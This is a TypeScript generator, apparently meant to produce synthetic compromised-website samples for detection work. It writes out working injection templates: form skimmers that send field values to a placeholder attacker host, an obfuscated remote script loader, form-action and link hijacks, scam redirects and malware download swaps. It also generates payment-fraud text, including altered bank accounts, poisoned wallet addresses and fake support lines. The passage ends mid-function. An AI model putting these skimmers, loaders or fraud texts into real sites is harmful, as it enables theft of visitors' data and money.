// Magecart-style collectors injected through a compromised plugin or theme footer: an inline script catching every form submission (or every field change) and sending the values to another host as an image request, a beacon or a fetch.
const formCollector = fresh33("inline-form-data-collector", (page, rng) => {
  const host = evilHost(rng, page)
  const url = `https://${host}${pick(rng, ["/i.gif", "/collect", "/stat.php", "/pixel", "/api/log", `/${alnum(rng, 5)}.php`, "/gate"])}`
  const v = () => pick(rng, ["a", "b", "d", "x", "_0x" + hex(rng, 4), "f" + alnum(rng, 2), "o", "q"])
  const [d, f, i] = [v(), v() + "1", v() + "2"]
  const send = pick(rng, [
    `(new Image).src="${url}?${pick(rng, ["d", "p", "data", "q"])}="+btoa(${d}.join("&"))`,
    `navigator.sendBeacon("${url}",${d}.join("&"))`,
    `fetch("${url}",{method:"POST",mode:"no-cors",keepalive:true,body:${d}.join("&")})`
  ])
  const code = pick(rng, [
    `document.addEventListener("submit",function(e){var ${f}=e.target,${d}=[];for(var ${i}=0;${i}<${f}.elements.length;${i}++){var el=${f}.elements[${i}];if(el.name)${d}.push(el.name+"="+encodeURIComponent(el.value))}${send}},true);`,
    `window.addEventListener("load",function(){var ${f}=document.querySelectorAll("input,select");for(var ${i}=0;${i}<${f}.length;${i}++){${f}[${i}].addEventListener("change",function(){var ${d}=[location.host,this.name+"="+encodeURIComponent(this.value)];${send}})}});`
  ])
  return splices(insert(pick(rng, [bottom(page), bottom(page), head(page), top(page)]), `<script${chance(rng, 0.3) ? ` type="text/javascript"` : ""}>${code}</script>`))
})

// Form hijacking through a hacked theme template: the page's forms (newsletter, search, contact, login) left as they look, but their action moved to a script on another host that keeps the data and bounces the visitor back.
const formsHijacked = fresh33("form-actions-moved-elsewhere", (page, rng) => {
  const host = evilHost(rng, page)
  const fs = forms(page).filter((f) => usable(page, f))
  const chosen = chance(rng, 0.5) ? fs.slice(0, 1) : fs
  if (chosen.length === 0) return splices(insert(slotAt(page.spots, "bottom"), `<form action="https://${host}/subscribe.php" method="post"><input type="email" name="email"> <button type="submit">${esc(page.site.words.subscribe)}</button></form>`))
  return {
    splices: chosen.flatMap((f) => {
      const out = [setAttr(page, f, "action", `https://${host}${pick(rng, ["/post.php", "/form/submit", "/mail.php", "/wp-admin/admin-post.php", `/${alnum(rng, 6)}/index.php`, "/api/forms"])}`)]
      if (chance(rng, 0.5)) out.push(setAttr(page, f, "method", "post"))
      return out
    })
  }
})

// Redirects injected into the template's head (a meta refresh after a few seconds, sending every visitor to a scam, adult or gambling site), common after theme and panel compromises.
const metaRefresh = fresh33("head-meta-refresh-to-scam", (page, rng) => {
  const url = `https://${evilHost(rng, page)}/${pick(rng, ["", "?ref=" + alnum(rng, 6), "lp/" + between(rng, 1, 99), "go/" + alnum(rng, 5), "win/", "promo/" + alnum(rng, 4)])}`
  const meta = `<meta http-equiv="${pick(rng, ["refresh", "Refresh", "REFRESH"])}" content="${pick(rng, [0, 0, 1, 2, 3, 5, 8, 10])}${pick(rng, [";url=", "; url=", ";URL="])}${escAttr(url)}">`
  return splices(insert(pick(rng, [headStart(page), head(page), head(page)]), meta))
})

const spamMenu = ["Slot Gacor", "Situs Slot", "Slot88", "Togel Online", "Judi Bola", "Situs Toto", "Online Casino", "Casino Bonus", "Payday Loans", "Buy Viagra", "Cheap Cialis", "Essay Writing Service", "Sportwetten", "Casino en ligne", "Apuestas Online", "Bitcoin Casino", "Maxwin", "Bandar Togel"]

// Indonesian gambling and pharma SEO campaigns add items to a hacked site's menu (the menu is one database setting, shown on every page): one item linking to a spam site, first or last in the main menu.
const menuSpamItem = fresh33("menu-item-to-spam-site", (page, rng) => {
  const term = pick(rng, spamMenu)
  const href = `https://${chance(rng, 0.3) ? `${slug(term).replace(/-/g, "")}${pick(rng, ["", digits(rng, 2)])}.${pick(rng, ["com", "net", "org", "xyz", "site", "online", "vip"])}` : randomDomain(rng)}/${chance(rng, 0.5) ? slug(term) : ""}`
  const lists = menuLists(page)
  if (lists.length > 0) {
    const ul = lists[0]!
    const li = page.spots.elements.find((e) => e.name === "li" && e.parent === ul.index)
    const cls = li?.attribs.class !== undefined ? ` class="${escAttr(li.attribs.class)}"` : ""
    return splices(insert(chance(rng, 0.5) ? ul.openEnd : ul.closeTag!.start, `<li${cls}><a href="${escAttr(href)}"${chance(rng, 0.4) ? ` rel="dofollow"` : ""}>${esc(term)}</a></li>`))
  }
  return splices(insert(top(page), `<p><a href="${escAttr(href)}">${esc(term)}</a></p>`))
})

const anchorTerms = ["online casino", "slot gacor", "buy viagra online", "payday loans", "replica watches", "essay writer", "casino bonus", "judi online", "cheap cialis", "bitcoin casino", "sports betting", "situs toto"]

// Nulled and hacked themes re-point the footer's credit and partner links to sites that pay for links: one to three links in the footer moved to spam sites, their anchor text sometimes changed to the keyword.
const footerLinks = fresh33("footer-links-repointed-to-spam", (page, rng) => {
  const all = links(page)
  const foot = all.filter((a) => within(page, a, footerish))
  const pool = foot.length > 0 ? foot : all.slice(-Math.max(1, Math.min(6, all.length)))
  const out: Array<Splice> = []
  for (const a of sample(rng, pool, between(rng, 1, 3))) {
    const term = pick(rng, anchorTerms)
    out.push(setAttr(page, a, "href", `https://${randomDomain(rng)}/${chance(rng, 0.5) ? slug(term) : ""}`))
    const r = clean(page, a)
    if (r !== null && chance(rng, 0.5) && !page.spots.elements.some((e) => e.parent === a.index) && textsIn(page, r).length > 0) out.push(replace(r, esc(term)))
  }
  if (out.length > 0) return { splices: out }
  return splices(insert(bottom(page), `<p><a href="https://${randomDomain(rng)}/">${esc(pick(rng, anchorTerms))}</a></p>`))
})

const downloadWords: T<ReadonlyArray<string>> = {
  en: ["Download our brochure (PDF)", "Application form (PDF)", "Price list {y} (PDF)", "Annual report {y}"], fr: ["Télécharger notre brochure (PDF)", "Formulaire d'inscription (PDF)", "Tarifs {y} (PDF)"],
  de: ["Unsere Broschüre herunterladen (PDF)", "Anmeldeformular (PDF)", "Preisliste {y} (PDF)"], es: ["Descarga nuestro folleto (PDF)", "Formulario de inscripción (PDF)", "Tarifas {y} (PDF)"],
  nl: ["Download onze brochure (PDF)", "Inschrijfformulier (PDF)", "Prijslijst {y} (PDF)"], pt: ["Baixe nosso folheto (PDF)", "Ficha de inscrição (PDF)", "Tabela de preços {y} (PDF)"],
  it: ["Scarica la brochure (PDF)", "Modulo di iscrizione (PDF)", "Listino prezzi {y} (PDF)"]
}
const docRe = /\.(pdf|docx?|xlsx?|pptx?|zip|rar|exe|msi|dmg|apk|odt)(\?|#|$)/i

// Malware served through a hacked site's downloads (brochures, forms, software installers swapped for an archive or an executable on another host): the document links moved, or a download line added where the page offers none.
const downloadsSwapped = fresh33("downloads-swapped-for-malware", (page, rng) => {
  const host = evilHost(rng, page)
  const file = (name: string) => `https://${host}/${pick(rng, ["dl", "files", "download", "docs"])}/${name}${pick(rng, [".zip", ".exe", ".pdf.exe", ".scr", ".iso", ".msi", ".js"])}`
  const docs = links(page).filter((a) => docRe.test(resolve(page, a.attribs.href ?? "")?.pathname ?? ""))
  if (docs.length > 0) {
    return splices(...sample(rng, docs, between(rng, 1, docs.length)).map((a) => {
      const base = (resolve(page, a.attribs.href ?? "")?.pathname.split("/").pop() ?? "document").replace(docRe, "") || "document"
      return setAttr(page, a, "href", file(base))
    }))
  }
  const label = fill(pick(rng, say(page, downloadWords)), { y: String(between(rng, 2025, 2026)) })
  const html = `<a href="${escAttr(file(slug(label) || "document"))}">${esc(label)}</a>`
  return splices(chance(rng, 0.5) ? lineBeside(page, [page.ids.email], html, blockSpot(rng, page)) : insert(blockSpot(rng, page), `<p class="download">${html}</p>`))
})

// SEO hijacking of a compromised site's metadata (canonical, og:url and alternate links pointed at the intruder's domain so search engines credit and send the traffic there): the page's canonical and og:url moved, or added.
const canonicalHijack = fresh33("canonical-and-og-url-hijacked", (page, rng) => {
  const host = chance(rng, 0.5) ? randomDomain(rng) : brandLookalike(rng, page.site.brand)
  const path = new URL(page.site.url).pathname
  const url = `https://${chance(rng, 0.4) ? "www." : ""}${host}${chance(rng, 0.7) ? path : "/"}`
  const out: Array<Splice> = []
  for (const e of page.spots.elements) {
    if (!usable(page, e) || e.inBody) continue
    if (e.name === "link" && (rels(e).includes("canonical") || (rels(e).includes("alternate") && e.attribs.hreflang !== undefined))) out.push(setAttr(page, e, "href", url))
    else if (e.name === "meta" && (e.attribs.property ?? e.attribs.name) === "og:url") out.push(setAttr(page, e, "content", url))
  }
  if (out.length === 0 || chance(rng, 0.3)) out.push(insert(pick(rng, [head(page), headStart(page)]), `<link rel="${pick(rng, ["canonical", "alternate"])}"${chance(rng, 0.5) ? ` hreflang="x-default"` : ""} href="${escAttr(url)}">`))
  return { splices: out }
})

// Click hijacking on hacked sites (an invisible link laid over the whole window, so the visitor's first click anywhere opens an ad network or scam page): one transparent fixed overlay.
const clickOverlay = fresh33("invisible-full-window-link-overlay", (page, rng) => {
  const url = `https://${evilHost(rng, page)}/${pick(rng, ["", "c/" + alnum(rng, 6), "?z=" + digits(rng, 7), "click?s=" + alnum(rng, 5)])}`
  const style = `position:fixed;${pick(rng, ["top:0;left:0;width:100%;height:100%", "inset:0", "top:0;left:0;right:0;bottom:0"])};z-index:${pick(rng, ["2147483647", "999999", "99999"])};${pick(rng, ["opacity:0", "background:transparent", "opacity:0.01"])}`
  const html = pick(rng, [
    () => `<a href="${escAttr(url)}" target="_blank" rel="noopener" style="${style}"></a>`,
    () => `<div style="${style}" onclick="window.open('${url.replace(/'/g, "")}');this.parentNode.removeChild(this)"></div>`
  ])()
  return splices(insert(pick(rng, [top(page), bottom(page)]), html))
})

// Mass WordPress infections of the Balada Injector kind: an inline script, its address hidden in character codes, that creates a script element loading the intruder's code from another host (which then redirects, pops scam pages or plants admin users).
const dynamicLoader = fresh33("encoded-dynamic-script-loader", (page, rng) => {
  const url = `https://${evilHost(rng, page)}${scriptPath(rng)}`
  const v = `_${alnum(rng, 4)}`
  const enc = pick(rng, [() => `String.fromCharCode(${[...url].map((c) => c.charCodeAt(0)).join(",")})`, () => `atob("${Buffer.from(url, "utf8").toString("base64")}")`, () => `"${[...url].map((c) => "\\x" + c.charCodeAt(0).toString(16).padStart(2, "0")).join("")}"`])()
  const guard = pick(rng, ["", `if(document.cookie.indexOf("wordpress_logged_in")<0)`, `if(!localStorage.getItem("${alnum(rng, 3)}"))`])
  const code = pick(rng, [
    `${guard}{var ${v}=document.createElement("script");${v}.src=${enc};${v}.async=true;document.head.appendChild(${v})}`,
    `(function(){${guard}{var ${v}=document.createElement("script");${v}.type="text/javascript";${v}.src=${enc};(document.getElementsByTagName("head")[0]||document.body).appendChild(${v})}})();`
  ])
  return splices(insert(pick(rng, [head(page), headStart(page), top(page), bottom(page)]), `<script>${code}</script>`))
})

// Phishing through a cloned copy of the customer's site on a look-alike domain: the page's own links (menus, posts, account and shop links) rewritten to the same paths on the clone, where forms and payments are collected.
const linksToClone = fresh33("internal-links-to-cloned-site", (page, rng) => {
  const clone = `${chance(rng, 0.4) ? "www." : ""}${brandLookalike(rng, page.site.brand)}`
  const own = links(page).filter((a) => isOwn(page, a.attribs.href ?? ""))
  const chosen = sample(rng, own, Math.max(1, Math.round(own.length * (0.4 + 0.6 * rng())))).slice(0, 300)
  if (chosen.length === 0) return splices(insert(top(page), `<p><a href="https://${clone}/">${esc(brandName(page))}</a></p>`))
  return splices(...chosen.map((a) => {
    const u = resolve(page, a.attribs.href ?? "")!
    return setAttr(page, a, "href", `https://${clone}${u.pathname}${u.search}${u.hash}`)
  }))
})

// ———————————————————————————— identifiers visitors copy or trust ————————————————————————————

// Call diversion by an intruder editing the contact widget: the phone number changed in its written national form in one place, the international line and the tel: link left as they were.
const phoneOnePlace = fresh33("phone-changed-in-one-place", (page, rng) => {
  const p = page.ids.phone
  const np = swapPhone(page.site.locale, p, rng)
  const occ = textOcc(page, p.national)
  if (occ.length > 0) return splices(replace(pick(rng, occ), esc(np.national)))
  const intl = textOcc(page, p.intl)
  if (intl.length > 0) return splices(replace(pick(rng, intl), esc(np.intl)))
  return splices(lineBeside(page, [page.ids.email], `${esc(page.site.words.phone)}: ${esc(np.national)}`, slotAt(page.spots, "bottom")))
})

const typoLabel = (rng: Rng, label: string): string => {
  for (let n = 0; n < 10; n++) {
    const i = between(rng, 1, Math.max(1, label.length - 2))
    const out = pick(rng, [
      () => label.slice(0, i) + label[i] + label.slice(i),
      () => (label.length > 4 ? label.slice(0, i) + label.slice(i + 1) : label + "s"),
      () => (i < label.length - 1 ? label.slice(0, i) + label[i + 1] + label[i] + label.slice(i + 2) : label + "-"),
      () => label.replace("m", "rn"),
      () => label.replace("o", "0"),
      () => label.replace("l", "1"),
      () => label.replace("i", "l"),
      () => `${label}-${pick(rng, ["mail", "info", "service", "office"])}`
    ])()
    if (out !== label && /^[a-z0-9-]+$/.test(out) && !out.startsWith("-")) return out
  }
  return `${label}-mail`
}

// Mail diversion behind an unchanged address: the mailto: link of the contact details moved to the intruder's mailbox (a look-alike domain or a free-mail account) while the text still shows the real address.
const mailtoBehindText = fresh33("mailto-link-diverted-text-kept", (page, rng) => {
  const [local] = page.ids.email.split("@") as [string]
  const label = page.site.domain.split(".")[0] ?? "site"
  const to = chance(rng, 0.5) ? `${local}@${typoLabel(rng, label)}${page.site.domain.slice(label.length)}` : `${bare(page)}.${local}@${pick(rng, ["gmail.com", "outlook.com", "proton.me", "gmx.com", "yahoo.com"])}`
  const anchors = page.spots.elements.filter((e) => e.name === "a" && usable(page, e) && (e.attribs.href ?? "").trim().toLowerCase() === `mailto:${page.ids.email}`.toLowerCase())
  if (anchors.length > 0) return splices(...anchors.map((a) => setAttr(page, a, "href", `mailto:${to}`)))
  const occ = textOcc(page, page.ids.email)
  if (occ.length > 0) return splices(replace(occ[0]!, `<a href="mailto:${escAttr(to)}">${esc(page.ids.email)}</a>`))
  return splices(lineBeside(page, [page.ids.phone.intl], `${esc(page.site.words.email)}: <a href="mailto:${escAttr(to)}">${esc(page.ids.email)}</a>`, slotAt(page.spots, "bottom")))
})

// Payment diversion that survives a quick look: the site's IBAN changed to another valid account at the same bank in the same country (bank code kept, account digits and check digits new), grouped as before; a national account line gets new account digits.
const accountSameBank = fresh33("bank-account-digits-changed-same-bank", (page, rng) => {
  const b = page.ids.bank
  if (b !== null) {
    let next = b.value
    if (b.kind === "iban") {
      const v = b.value.replace(/\s+/g, "")
      const cc = v.slice(0, 2)
      const bban = v.slice(4)
      const keep = Math.min(Math.max(0, bban.length - 6), between(rng, 4, 8))
      for (let n = 0; n < 8 && next === b.value; n++) {
        const nb = iban(cc, bban.slice(0, keep) + bban.slice(keep).replace(/\d/g, () => digits(rng, 1)))
        next = /\s/.test(b.value) ? groupIban(nb) : nb
      }
    } else {
      const ms = [...b.value.matchAll(/\d+/g)]
      const last = ms[ms.length - 1]
      if (last !== undefined) {
        for (let n = 0; n < 8 && next === b.value; n++) next = b.value.slice(0, last.index) + digits(rng, last[0].length) + b.value.slice(last.index! + last[0].length)
      }
    }
    const occ = textOcc(page, b.value)
    if (next !== b.value && occ.length > 0) return splices(...occ.map((r) => replace(r, esc(next))))
  }
  const nb = makeBank(rng, page.site.locale) ?? makeBank(rng, pick(rng, locales.filter((l) => l.iban !== null)))!
  return splices(lineBeside(page, [page.ids.email, page.ids.phone.intl], `${esc(page.site.words.bank)}: ${esc(nb.kind === "iban" ? `IBAN ${nb.value}` : nb.value)}`, slotAt(page.spots, "bottom")))
})

/** An address of the same coin that starts and ends like `address` (address poisoning). */
const poisoned = (rng: Rng, address: string): string => {
  const prefix = address.startsWith("bc1q") ? 4 : address.startsWith("0x") ? 2 : 1
  const set = address.startsWith("bc1") ? bech32 : address.startsWith("0x") ? hex : base58
  const k = between(rng, 3, 6)
  const head = address.slice(0, prefix + k)
  const tail = address.slice(address.length - k)
  const mid = address.length - head.length - tail.length
  for (let n = 0; n < 8; n++) {
    const out = head + set(rng, mid) + tail
    if (out !== address) return out
  }
  return head + set(rng, mid) + tail
}

// Address poisoning on donation pages: the wallet replaced by an address of the same coin whose first and last characters match the real one (generated on purpose, since people check only the ends), everywhere it appears.
const walletPoisoned = fresh33("wallet-same-ends-address", (page, rng) => {
  const wal = page.ids.wallet
  if (wal !== null) {
    const next = poisoned(rng, wal.address)
    const out = replaceEverywhere(page, changing([[wal.address, next]]))
    if (out.length > 0) return { splices: out }
  }
  const nw = makeWallet(rng)
  return splices(lineBeside(page, [page.ids.email, page.ids.phone.intl], `${esc(page.site.words.donate)}: ${nw.coin} <code>${nw.address}</code>`, slotAt(page.spots, "bottom")))
})

const lookName = (rng: Rng, name: string): string => {
  for (let n = 0; n < 10; n++) {
    const i = between(rng, 1, Math.max(1, name.length - 1))
    const out = pick(rng, [
      () => `${name}${pick(rng, ["_", "-", ".", "official", "Official", "_pay", "Pay", "HQ", digits(rng, 2)])}`,
      () => name.slice(0, i) + name[i - 1] + name.slice(i),
      () => `${pick(rng, ["the", "real", "my"])}${name}`,
      () => name.replace(/o/i, "0"),
      () => name.replace(/l/, "I")
    ])()
    if (out !== name) return out
  }
  return `${name}_`
}

// Payment-handle look-alikes (a club's or creator's PayPal.me, Venmo, Cash App or Revolut name changed to one that differs by a character or a suffix, a PIX key with other digits): the handle and its link changed in place.
const handleLookalike = fresh33("payment-handle-lookalike", (page, rng) => {
  const pay = page.ids.pay
  if (pay !== null && pay.href !== null) {
    const old = (pay.href.replace(/\/$/, "").split("/").pop() ?? "").replace(/^\$/, "")
    if (old !== "") {
      const nn = lookName(rng, old)
      const href = pay.href.slice(0, pay.href.lastIndexOf(old)) + nn + pay.href.slice(pay.href.lastIndexOf(old) + old.length)
      const out = replaceEverywhere(page, changing([[pay.href, href], [pay.shown, pay.shown.replace(old, nn)]]))
      if (out.length > 0) return { splices: out }
    }
  }
  if (pay !== null && pay.href === null) {
    const key = pay.shown.replace(/\d(?=[^\d]*\d?[^\d]*$)/g, () => digits(rng, 1))
    const occ = textOcc(page, pay.shown)
    if (key !== pay.shown && occ.length > 0) return splices(...occ.map((r) => replace(r, esc(key))))
  }
  const nn = lookName(rng, brandName(page).replace(/\s+/g, ""))
  return splices(lineBeside(page, [page.ids.email, page.ids.phone.intl], `${esc(page.site.words.payWith)} <a href="https://www.paypal.me/${escAttr(nn)}">paypal.me/${esc(nn)}</a>`, slotAt(page.spots, "bottom")))
})

/** The handle of a profile URL and the URL with another handle. */
const profile = (href: string): { readonly handle: string; readonly with: (h: string) => string } | null => {
  const m = /^(https:\/\/[^/]+\/(?:company\/|in\/|@)?)([^/?#]+)(\/?)$/.exec(href)
  return m === null ? null : { handle: m[2]!, with: (h) => `${m[1]}${h}${m[3]}` }
}

// Impersonation profiles (an intruder or a scammer with the site's admin login points one or two follow-us links at a look-alike account that then messages followers with "offers" and "support"): the profile link changed to a name differing by a suffix or a character.
const socialLookalike = fresh33("social-profile-lookalike", (page, rng) => {
  const socials = page.ids.social.filter((s) => s.href !== null && occurrences(page, s.href).length > 0)
  const pairs = sample(rng, socials, between(rng, 1, 2)).flatMap((s) => {
    const p = profile(s.href!)
    return p === null ? [] : [[s.href!, p.with(lookName(rng, p.handle).replace(/[^A-Za-z0-9_.-]/g, ""))] as const]
  })
  const out = replaceEverywhere(page, changing(pairs))
  if (out.length > 0) return { splices: out }
  const h = lookName(rng, bare(page))
  return splices(lineBeside(page, [page.ids.email], `${esc(page.site.words.follow)}: <a href="https://www.instagram.com/${escAttr(h)}/">Instagram</a>`, slotAt(page.spots, "bottom")))
})

const bankNotice: T<ReadonlyArray<string>> = {
  en: ["Important: our bank details have changed. From {d} please make all payments to {A} (account holder: {H}). Payments to the old account can no longer be processed.", "Please note our new account for invoices and donations: {A}, {H}. Do not use the previous details."],
  fr: ["Important : nos coordonnées bancaires ont changé. À partir du {d}, merci d'effectuer tous vos paiements sur {A} (titulaire : {H}). L'ancien compte n'est plus utilisé.", "Nouveau compte pour vos factures et dons : {A}, {H}. N'utilisez plus les anciennes coordonnées."],
  de: ["Wichtig: Unsere Bankverbindung hat sich geändert. Ab {d} bitte alle Zahlungen an {A} (Kontoinhaber: {H}). Zahlungen auf das alte Konto können nicht mehr bearbeitet werden.", "Bitte beachten Sie unser neues Konto für Rechnungen und Spenden: {A}, {H}. Die alte Verbindung nicht mehr verwenden."],
  es: ["Importante: nuestros datos bancarios han cambiado. Desde el {d} realice todos los pagos a {A} (titular: {H}). La cuenta anterior ya no está operativa.", "Nueva cuenta para facturas y donativos: {A}, {H}. No utilice los datos anteriores."],
  nl: ["Belangrijk: onze bankgegevens zijn gewijzigd. Vanaf {d} graag alle betalingen naar {A} (ten name van {H}). Betalingen naar de oude rekening worden niet meer verwerkt.", "Let op ons nieuwe rekeningnummer voor facturen en donaties: {A}, {H}. Gebruik de oude gegevens niet meer."],
  pt: ["Importante: nossos dados bancários mudaram. A partir de {d}, faça todos os pagamentos para {A} (titular: {H}). A conta antiga não é mais utilizada.", "Nova conta para faturas e doações: {A}, {H}. Não use os dados anteriores."],
  it: ["Importante: le nostre coordinate bancarie sono cambiate. Dal {d} effettuate tutti i pagamenti su {A} (intestatario: {H}). Il vecchio conto non è più attivo.", "Nuovo conto per fatture e donazioni: {A}, {H}. Non usate le coordinate precedenti."]
}

// Invoice and donation fraud through a hacked page (the "our bank details have changed" notice that banks and police warn about, placed on the organisation's own site so that it looks confirmed): a notice naming a new account and holder beside the contact details.
const bankChangeNotice = fresh33("bank-details-changed-notice", (page, rng) => {
  const loc = chance(rng, 0.5) ? page.site.locale : pick(rng, locales)
  const nb = makeBank(rng, loc) ?? makeBank(rng, pick(rng, locales.filter((l) => l.iban !== null)))!
  const A = nb.kind === "iban" ? `IBAN ${/\s/.test(nb.value) ? nb.value : groupIban(nb.value)}` : nb.value
  const H = pick(rng, [brandName(page), `${brandName(page)} ${pick(rng, ["Services", "Trading", "Payments", "Holding"])}`, `${pick(rng, ["J.", "M.", "A.", "S."])} ${pick(rng, ["Keller", "Moreau", "Silva", "Rossi", "Jansen", "Walker", "Novak", "Garcia"])}`])
  const text = fill(pick(rng, say(page, bankNotice)), { A, H, d: page.site.locale.date(new Date(Date.UTC(2025 + int(rng, 2), int(rng, 12), 1 + int(rng, 28)))) })
  const html = chance(rng, 0.5) ? `<strong>${esc(text)}</strong>` : esc(text)
  const b = page.ids.bank
  if (chance(rng, 0.6)) return splices(lineBeside(page, b !== null ? [b.value, page.ids.email] : [page.ids.email, page.ids.phone.intl], html, slotAt(page.spots, "top")))
  return splices(insert(blockSpot(rng, page), `<div class="${pick(rng, ["notice", "alert", "important"])}"><p>${html}</p></div>`))
})

const supportWords: T<ReadonlyArray<string>> = {
  en: ["Official customer support on {S}: {H}", "Fastest replies via {S}: {H}", "Questions about orders or refunds? Message us on {S}: {H}"],
  fr: ["Service client officiel sur {S} : {H}", "Réponse rapide sur {S} : {H}", "Une question sur une commande ou un remboursement ? Écrivez-nous sur {S} : {H}"],
  de: ["Offizieller Kundenservice auf {S}: {H}", "Schnellste Antwort über {S}: {H}", "Fragen zu Bestellung oder Erstattung? Schreiben Sie uns auf {S}: {H}"],
  es: ["Atención al cliente oficial en {S}: {H}", "Respuesta rápida por {S}: {H}", "¿Dudas sobre pedidos o reembolsos? Escríbenos por {S}: {H}"],
  nl: ["Officiële klantenservice via {S}: {H}", "Snelste antwoord via {S}: {H}", "Vragen over bestellingen of terugbetalingen? Stuur ons een bericht op {S}: {H}"],
  pt: ["Atendimento oficial no {S}: {H}", "Resposta rápida pelo {S}: {H}", "Dúvidas sobre pedidos ou reembolsos? Fale conosco no {S}: {H}"],
  it: ["Assistenza clienti ufficiale su {S}: {H}", "Risposta rapida su {S}: {H}", "Domande su ordini o rimborsi? Scriveteci su {S}: {H}"]
}

// Support impersonation (scammers who hold a site's login add an "official support" handle on a messenger, then ask people who write for card codes or "refund fees"): one line naming a Telegram, WhatsApp or Signal contact that is not the organisation's.
const messengerSupport = fresh33("messenger-support-handle-added", (page, rng) => {
  const b = bare(page)
  const [S, H, href] = pick(rng, [
    () => { const h = `${b}${pick(rng, ["_support", "_help", "support", "_care", "_official", "_service"])}`; return ["Telegram", `@${h}`, `https://t.me/${h}`] as const },
    () => { const n = `${pick(rng, ["44", "1", "234", "62", "971", "92", "380"])}${digits(rng, pick(rng, [9, 10]))}`; return ["WhatsApp", `+${n}`, `https://wa.me/${n}`] as const },
    () => { const n = `+${pick(rng, ["44 7", "1 ", "31 6", "49 15"])}${digits(rng, 9)}`; return ["Signal", n, null] as const }
  ])()
  const text = esc(fill(pick(rng, say(page, supportWords)), { S, H: "\u0000" })).replace("\u0000", href === null ? esc(H) : `<a href="${escAttr(href)}">${esc(H)}</a>`)
  return splices(lineBeside(page, [page.ids.email, page.ids.phone.intl], text, slotAt(page.spots, "bottom")))
})

const giveaway: T<readonly [string, string]> = {
  en: ["{B} anniversary giveaway: we are giving back {tot} {coin}", "Send from {min} to {max} {coin} to the address below and we will send back double to the sending address. Only for the first {k} participants!"],
  fr: ["{B} fête son anniversaire : {tot} {coin} à gagner", "Envoyez de {min} à {max} {coin} à l'adresse ci-dessous et nous vous renverrons le double. Réservé aux {k} premiers participants !"],
  de: ["{B}-Jubiläumsaktion: Wir verschenken {tot} {coin}", "Senden Sie {min} bis {max} {coin} an die Adresse unten und Sie erhalten das Doppelte zurück. Nur für die ersten {k} Teilnehmer!"],
  es: ["Sorteo de aniversario de {B}: regalamos {tot} {coin}", "Envía de {min} a {max} {coin} a la dirección de abajo y te devolveremos el doble. ¡Solo para los primeros {k} participantes!"],
  nl: ["{B} jubileumactie: we geven {tot} {coin} weg", "Stuur {min} tot {max} {coin} naar het adres hieronder en je krijgt het dubbele terug. Alleen voor de eerste {k} deelnemers!"],
  pt: ["Promoção de aniversário {B}: vamos devolver {tot} {coin}", "Envie de {min} a {max} {coin} para o endereço abaixo e devolvemos o dobro. Só para os primeiros {k} participantes!"],
  it: ["Giveaway per l'anniversario di {B}: regaliamo {tot} {coin}", "Inviate da {min} a {max} {coin} all'indirizzo qui sotto e vi rimanderemo il doppio. Solo per i primi {k} partecipanti!"]
}

// Crypto "double your money" giveaways planted on hijacked sites (the same scam as on hijacked social accounts, now with the organisation's own page as proof): a giveaway block with an address, sometimes a QR code of it.
const cryptoGiveaway = fresh33("crypto-doubling-giveaway", (page, rng) => {
  const coin = pick(rng, ["BTC", "ETH", "ETH", "USDT (TRC20)"] as const)
  const wal = makeWallet(rng, coin)
  const [h, p] = siteOr(rng, page, giveaway)
  const vars = coin === "BTC" ? { min: "0.01", max: "2", tot: String(between(rng, 5, 50) * 10) } : coin === "ETH" ? { min: "0.1", max: "20", tot: String(between(rng, 2, 20) * 500) } : { min: "100", max: "50000", tot: `${between(rng, 1, 9)}000000` }
  const all = { ...vars, coin, B: brandName(page), k: String(pick(rng, [100, 200, 500, 1000])) }
  const qr = chance(rng, 0.4) ? `<img src="https://api.qrserver.com/v1/create-qr-code/?size=180x180&amp;data=${encodeURIComponent(wal.address)}" alt="" width="180" height="180">` : ""
  const html = `<div class="${pick(rng, ["giveaway", "promo", "event-banner"])}" style="border:${between(rng, 2, 5)}px solid ${pick(rng, ["#f7931a", "#627eea", "#26a17b", "#c00"])};padding:${between(rng, 10, 30)}px;text-align:center"><h2>${esc(fill(h, all))}</h2><p>${esc(fill(p, all))}</p><p><code>${wal.address}</code></p>${qr}</div>`
  return splices(insert(blockSpot(rng, page), html))
})

/** A toll-free or "support line" number in the country's usual form, with its tel: digits. */
const tollFree = (rng: Rng, country: string): { readonly shown: string; readonly tel: string } => {
  const d = (n: number) => digits(rng, n)
  switch (country) {
    case "us": { const a = pick(rng, ["800", "833", "844", "855", "866", "877", "888"]); const [b, c] = [d(3), d(4)]; return { shown: pick(rng, [`1-${a}-${b}-${c}`, `(${a}) ${b}-${c}`, `+1 ${a} ${b} ${c}`]), tel: `+1${a}${b}${c}` } }
    case "uk": { const [b, c] = [d(3), d(4)]; const a = pick(rng, ["800", "808"]); return { shown: `0${a} ${b} ${c}`, tel: `+44${a}${b}${c}` } }
    case "fr": { const r = `${pick(rng, ["800", "805", "806"])}${d(6)}`; return { shown: `0 ${r.slice(0, 3)} ${r.slice(3, 5)} ${r.slice(5, 7)} ${r.slice(7)}`, tel: `+33${r}` } }
    case "de": { const r = `800${d(7)}`; return { shown: `0${r.slice(0, 3)} ${r.slice(3)}`, tel: `+49${r}` } }
    case "es": { const r = `900${d(6)}`; return { shown: `${r.slice(0, 3)} ${r.slice(3, 6)} ${r.slice(6)}`, tel: `+34${r}` } }
    case "nl": { const r = `800${d(4)}`; return { shown: `0800-${r.slice(3)}`, tel: `+31${r}` } }
    case "au": { const r = `1800${d(6)}`; return { shown: `${r.slice(0, 4)} ${r.slice(4, 7)} ${r.slice(7)}`, tel: `+61${r}` } }
    case "in": { const r = `1800${d(7)}`; return { shown: `${r.slice(0, 4)}-${r.slice(4, 7)}-${r.slice(7)}`, tel: `+91${r}` } }
    case "br": { const r = `800${d(7)}`; return { shown: `0${r.slice(0, 3)} ${r.slice(3, 6)} ${r.slice(6)}`, tel: `+55${r}` } }
    case "it": { const r = `800${d(6)}`; return { shown: `${r.slice(0, 3)} ${r.slice(3, 6)} ${r.slice(6)}`, tel: `+39${r}` } }
    default: { const [b, c] = [d(3), d(4)]; return { shown: `+1 888 ${b} ${c}`, tel: `+1888${b}${c}` } }
  }
}

// Refund and tech-support scams run from hacked small-business sites (the phone replaced by a freephone-looking "support line" the scammers answer, so callers trust it): the number replaced everywhere (both notations and the tel: link) by such a number.
const supportLine = fresh33("phone-replaced-by-scam-freephone", (page, rng) => {
  const p = page.ids.phone
  const n = tollFree(rng, page.site.locale.country)
  const out = replaceEverywhere(page, changing([[p.intl, n.shown], [p.national, n.shown], [p.tel, n.tel]]))
  if (out.length > 0) return { splices: out }
